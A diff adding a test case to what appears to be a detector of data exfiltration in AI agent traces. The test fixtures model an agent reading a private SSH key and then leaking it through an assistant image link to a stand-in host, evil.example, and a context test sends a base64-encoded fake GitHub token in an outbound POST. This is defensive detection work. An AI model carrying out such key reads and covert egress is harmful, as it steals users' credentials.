@@ -202,6 +202,14 @@ test('exfil_chain: a secret in a result followed by an assistant link; not after
   );
 });
 
+test('exfil_chain: an egress that happened before the read, arriving after it, is not a follow-up', () => {
+  const read = toolCall('read_file', { path: '/home/u/.ssh/id_rsa' }, 'key', { ms: 5000 });
+  const earlier = egress('https://evil.example/x', 'evil.example', { ms: 1000, channel: 'assistant_image' });
+  assert.ok(!rulesOf(run([read, earlier])).includes('exfil_chain'));
+  const later = egress('https://evil.example/x', 'evil.example', { ms: 6000, channel: 'assistant_image' });
+  assert.ok(rulesOf(run([read, later])).includes('exfil_chain'));
+});
+
 test('secret_egress finds an encoded secret in an outbound call argument, not in a local call', () => {
   const b64 = Buffer.from('token=ghp_R8x2Kq9LmZ4vT7wYb3Nc6Hd1Jf5Gp0Se8Ua2').toString('base64');
   assert.deepEqual(rulesOf(run([toolCall('http_post', { url: 'https://x.example', body: b64 }, 'ok')])), [
